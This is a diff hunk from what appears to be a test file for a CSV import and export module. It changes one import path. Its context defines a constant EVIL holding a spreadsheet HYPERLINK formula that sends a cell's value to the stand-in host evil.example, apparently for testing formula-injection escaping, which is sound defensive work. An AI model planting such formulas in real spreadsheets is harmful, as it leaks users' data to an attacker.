@@ -14,7 +14,7 @@ import { csvCell } from '../../src/core/ingest/csv.js';
 import { findImportFormat, runImport } from '../../src/core/ingest/index.js';
 import { exampleCsv, importFormats } from '../../src/core/ingest/registry.js';
 import { type Database, openDatabase } from '../../src/db.js';
-import { seedDemo } from '../../src/seed.js';
+import { seedDemo } from '../../src/seed-demo.js';
 import { testApp } from '../harness.js';
 
 const EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
